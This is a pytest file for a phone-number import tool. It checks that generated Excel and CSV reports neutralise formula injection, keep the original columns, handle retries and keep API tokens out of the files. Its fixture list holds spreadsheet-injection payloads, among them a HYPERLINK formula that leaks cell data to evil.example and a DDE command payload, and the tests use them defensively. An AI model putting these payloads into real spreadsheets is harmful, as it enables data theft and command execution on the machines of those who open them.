"""The reports end to end: hostile files through validate_file, reports fed back to the CLI."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from pydantic import SecretStr
from reporter_samples import formula_cells, opened, values
from typer.testing import CliRunner

from importer import schemas
from importer.api import RunOutcome, run_import, validate_file
from importer.cli import app
from importer.config import Settings, build_settings
from importer.loader import load_file
from importer.models import Status
from importer.reporter import csvout
from importer.reporter.flatten import RESULT_COLUMNS
from importer.sandbox import SandboxServer

SandboxFactory = Callable[..., SandboxServer]
FIXTURES = Path(__file__).resolve().parent / "fixtures"
SAMPLES = Path(__file__).resolve().parent.parent / "sample_data"
HOSTILE_NOTES = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click me")',
    "+1-2",
    "@SUM(1)",
    "-cmd|' /C calc'!A0",
    "\tTAB start",
    "\rCR start",
]


def _settings(tmp_path: Path, **report: object) -> Settings:
    return build_settings({"report": {"report_dir": tmp_path, **report}})


def _check_workbook(outcome: RunOutcome, header: list[str]) -> list[list[object]]:
    """Original columns and order, statuses, no formula, phone cells as strings."""
    with opened(outcome.report_path) as book:
        assert formula_cells(book) == []
        lines = values(book["Results"])
        phone_cells = [line[0] for line in book["Results"].iter_rows(min_row=2)]
    assert lines[0] == [*header, *RESULT_COLUMNS]
    status_at = len(header)
    assert [line[status_at] for line in lines[1:]] == [r.status.value for r in outcome.results]
    assert all(cell.data_type == "s" for cell in phone_cells if cell.value is not None)
    return lines


@pytest.mark.parametrize("name", ["hostile_cells.csv", "hostile_cells.xlsx"])
def test_hostile_cells_never_become_formulas(tmp_path: Path, name: str) -> None:
    """Formula-like cells stay text everywhere; +12059051025 is normalised to 12059051025."""
    outcome = validate_file(FIXTURES / name, _settings(tmp_path))
    header = ["Phone Number", "Capabilities", "Notes", "Callback URL"]
    lines = _check_workbook(outcome, header)
    # openpyxl leaves OOXML's escape of CR (_x000D_) as is; Excel and calamine decode it.
    notes = [str(line[2]).replace("_x000D_", "\r") for line in lines[1:7]]
    assert notes == HOSTILE_NOTES
    normalized = len(header) + RESULT_COLUMNS.index("normalized_phonenumber")
    assert lines[1][0] == "+12059051025"
    assert lines[1][normalized] == "12059051025"
    assert lines[-1][normalized] == "12059051031"
    statuses = [result.status for result in outcome.results]
    assert statuses[:6] == [Status.WOULD_REGISTER] * 6
    assert statuses[6:8] == [Status.INVALID, Status.INVALID]
    with opened(outcome.report_path) as book:
        retry = values(book["Retry"])
        errors = values(book["Errors"])
    assert [line[0] for line in retry[1:]] == ["=1+1", "@SUM(1)"]
    assert {line[6] for line in errors[1:]} >= {"=1+1", "@SUM(1)"}


def test_hostile_csv_twins_are_neutralised(tmp_path: Path) -> None:
    """CSV input gets CSV twins; their hostile cells are quoted, numbers left intact."""
    outcome = validate_file(FIXTURES / "hostile_cells.csv", _settings(tmp_path))
    twins = [tmp_path / "hostile_cells.csv.results.csv", tmp_path / "hostile_cells.csv.errors.csv"]
    assert all(path.exists() for path in twins)
    with twins[0].open(encoding="utf-8-sig", newline="") as handle:
        lines = list(csv.reader(handle))
    assert [line[2] for line in lines[1:7]] == ["'" + note for note in HOSTILE_NOTES]
    assert lines[1][0] == "+12059051025"
    assert lines[1][4 + RESULT_COLUMNS.index("normalized_phonenumber")] == "12059051025"
    for path in twins:
        with path.open(encoding="utf-8-sig", newline="") as handle:
            for line in csv.reader(handle):
                for cell in line:
                    assert csvout.neutralize(cell) == cell or not cell, cell
                    assert not cell.startswith(("=", "@", "\t", "\r")), cell
    assert outcome.report_path == tmp_path / "hostile_cells.csv.results.xlsx"


@pytest.mark.parametrize("sample", ["partner_numbers.csv", "partner_numbers.xlsx"])
def test_sample_reports_keep_the_partner_sheet(tmp_path: Path, sample: str) -> None:
    """Every produced workbook keeps the original columns and order, and right statuses."""
    settings = _settings(tmp_path)
    header = list(load_file(SAMPLES / sample, settings.input).source.header)
    outcome = validate_file(SAMPLES / sample, settings)
    lines = _check_workbook(outcome, header)
    assert len(lines) == len(outcome.results) + 1


def test_results_sheet_fed_back_reads_the_partner_columns(tmp_path: Path) -> None:
    """The report itself as input: Results is read, our appended columns are not mapped."""
    first = validate_file(SAMPLES / "partner_numbers.csv", _settings(tmp_path / "a"))
    again = validate_file(first.report_path, _settings(tmp_path / "b"))
    assert again.summary.input.sheet == "Results"
    assert again.summary.input.mapping == first.summary.input.mapping
    assert [r.status for r in again.results] == [r.status for r in first.results]


def test_retry_sheet_fed_back_through_the_cli(tmp_path: Path) -> None:
    """`did-import validate report.xlsx --sheet Retry` reads exactly the rows to retry."""
    outcome = validate_file(SAMPLES / "partner_numbers.csv", _settings(tmp_path))
    invalid = [r for r in outcome.results if r.status is Status.INVALID]
    result = CliRunner().invoke(
        app,
        [
            "validate",
            str(outcome.report_path),
            "--sheet",
            "Retry",
            "--report",
            str(tmp_path / "retry.results.xlsx"),
        ],
    )
    assert result.exit_code == 1, result.output
    assert f"{len(invalid)} rows checked: none ready to register; {len(invalid)} need" in (
        result.stdout
    )
    assert f" · {len(invalid)} invalid · " in result.stdout
    with opened(tmp_path / "retry.results.xlsx") as book:
        lines = values(book["Results"])
    assert [line[0] for line in lines[1:]] == [r.row.cells[0] or None for r in invalid]


def test_failed_rows_are_retried_from_the_retry_sheet(
    tmp_path: Path, make_sandbox: SandboxFactory, sandbox: SandboxServer
) -> None:
    """Rows a failing API left unsent go to Retry; `run report.xlsx --sheet Retry` sends them."""
    failing = make_sandbox(fail_rate=1.0)
    api = {"base_url": failing.base_url, "token": failing.token, "max_attempts": 1}
    settings = build_settings({"api": api, "report": {"report_dir": tmp_path}})
    first = run_import(FIXTURES / "hostile_cells.csv", settings)
    unsent = [r for r in first.results if r.status in (Status.FAILED, Status.NOT_ATTEMPTED)]
    assert len(unsent) == 7
    token_file = tmp_path / "token"
    token_file.write_text(sandbox.token, encoding="utf-8")
    token_file.chmod(0o600)
    args = ["run", str(first.report_path), "--sheet", "Retry", "--base-url", sandbox.base_url]
    args += ["--token-file", str(token_file), "--report", str(tmp_path / "second.xlsx")]
    result = CliRunner().invoke(app, args)
    assert "7 registered, 2 invalid" in result.stdout, result.output
    registered = {record["phonenumber"] for record in sandbox.state.records}
    assert registered == {r.normalized_phonenumber for r in unsent}
    assert SecretStr(sandbox.token).get_secret_value() not in _all_text(tmp_path)


def _all_text(folder: Path) -> str:
    """Every report file's bytes, decoded loosely, to look for leaked secrets."""
    return "".join(
        path.read_bytes().decode("latin-1")
        for path in folder.glob("*")
        if path.is_file() and path.name != "token"
    )


def test_report_format_csv_writes_only_the_csv_files(tmp_path: Path) -> None:
    """`--report-format csv` writes the results and errors CSV and no workbook."""
    args = ["validate", str(SAMPLES / "partner_numbers.xlsx"), "--report-format", "csv"]
    args += ["--report", str(tmp_path / "out.xlsx")]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 1, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.errors.csv", "out.results.csv"]
    assert str(tmp_path / "out.results.csv") in result.stdout


def test_inputs_differing_only_by_extension_keep_their_own_reports(tmp_path: Path) -> None:
    """`numbers.csv` and `numbers.xlsx` write `numbers.csv.results.xlsx` (with its CSV
    twins) and `numbers.xlsx.results.xlsx`; running either again replaces only its own."""
    for suffix in (".csv", ".xlsx"):
        shutil.copy(SAMPLES / f"partner_numbers{suffix}", tmp_path / f"numbers{suffix}")
    reports = tmp_path / "reports"
    for name in ("numbers.csv", "numbers.xlsx", "numbers.csv"):
        outcome = validate_file(tmp_path / name, _settings(reports))
        assert outcome.report_path == reports / f"{name}.results.xlsx"
    assert sorted(p.name for p in reports.iterdir()) == [
        "numbers.csv.errors.csv",
        "numbers.csv.results.csv",
        "numbers.csv.results.xlsx",
        "numbers.xlsx.results.xlsx",
    ]
    with opened(reports / "numbers.xlsx.results.xlsx") as book:
        assert "numbers.xlsx" in str(values(book["Summary"]))


def test_report_format_is_checked(tmp_path: Path) -> None:
    """An unknown --report-format is a usage error (exit 2) naming the choices."""
    args = ["validate", str(SAMPLES / "partner_numbers.csv"), "--report-format", "pdf"]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 2
    assert "xlsx" in result.output


def test_cli_summary_json_matches_the_schema(tmp_path: Path) -> None:
    """`--summary-json` output validates against schemas/run_summary.schema.json."""
    import jsonschema

    path = tmp_path / "summary.json"
    args = ["validate", str(SAMPLES / "partner_numbers.csv"), "--summary-json", str(path)]
    args += ["--report", str(tmp_path / "r.xlsx")]
    CliRunner().invoke(app, args)
    schema = json.loads((schemas.SCHEMA_DIR / "run_summary.schema.json").read_text("utf-8"))
    summary = json.loads(path.read_text(encoding="utf-8"))
    jsonschema.validate(summary, schema)
    assert summary["report_path"] == str(tmp_path / "r.xlsx")
